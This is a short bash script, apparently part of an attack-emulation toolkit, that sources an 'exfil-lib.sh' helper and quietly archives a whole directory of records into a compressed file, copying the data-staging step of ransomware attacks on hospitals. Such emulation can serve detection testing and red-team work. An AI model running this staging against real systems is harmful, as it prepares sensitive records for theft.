#!/usr/bin/env bash
# The whole tree into a compressed archive in /tmp, as the hospital attacks did before encrypting.
. "$(dirname "$0")/exfil-lib.sh"
tar -C "$DIR" -czf "$OUT/records.tgz" . 2>/dev/null
